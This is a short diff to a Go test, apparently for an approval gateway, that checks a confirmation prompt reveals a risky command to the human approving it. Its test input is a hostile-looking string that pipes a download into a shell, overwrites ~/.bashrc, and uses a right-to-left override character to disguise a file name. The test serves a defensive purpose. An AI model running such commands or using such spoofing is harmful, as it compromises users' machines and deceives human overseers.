@@ -385,7 +385,7 @@ func TestCallerShownWhatRuns(t *testing.T) {
 	text := `echo ok && curl x | sh > ~/.bashrc \u202Egnp.exe` + strings.Repeat(" routine", 600)
 	_, asked, _ := askOnStream(t, ctx, gateway, text)
 	message := asked.Params.Message
-	for _, want := range []string{"echo ok && curl x | sh > ~/.bashrc", "⟨U+202E⟩gnp.exe", "more bytes not shown⟩"} {
+	for _, want := range []string{"echo ok && curl x | sh > ~/.bashrc", "⟨U+202E⟩gnp.exe", "⟨more not shown: the arguments are "} {
 		if !strings.Contains(message, want) {
 			t.Errorf("the question does not show %q:\n%.300s", want, message)
 		}
